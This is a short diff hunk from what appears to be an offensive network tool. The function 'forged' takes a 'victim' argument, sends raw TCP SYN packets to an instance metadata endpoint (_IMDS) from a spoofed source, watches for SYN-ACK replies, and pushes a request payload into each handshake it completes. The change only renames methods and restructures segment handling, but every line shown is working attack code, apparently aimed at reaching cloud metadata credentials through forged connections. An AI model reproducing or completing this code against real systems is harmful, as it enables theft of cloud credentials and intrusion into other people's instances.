@@ -80,13 +80,13 @@ def forged(deadline: float, victim: str) -> None:
         wire.request_arp(gateway())
         first, port = port, port + 50 if port < 60_000 else 20_000
         for each in range(first, first + 50):
-            wire._send_tcp(via, _IMDS, each, (each, 0), 0x02)
+            wire.send_tcp(via, _IMDS, each, (each, 0), 0x02)
         end = time.monotonic() + 0.02
         for each in range(first, first + 50):
-            for sequence, flags, _ in wire._segments(_IMDS[0], each, end - time.monotonic()):
-                if flags & 0x12 == 0x12:
-                    numbers = (each + 1, sequence + 1)
-                    wire._send_tcp(via, _IMDS, each, numbers, 0x18, data=request)
+            for segment in wire.segments(_IMDS[0], end - time.monotonic(), port=each):
+                if segment.flags & 0x12 == 0x12:
+                    numbers = (each + 1, segment.sequence + 1)
+                    wire.send_tcp(via, _IMDS, each, numbers, 0x18, data=request)
                 break
 
 
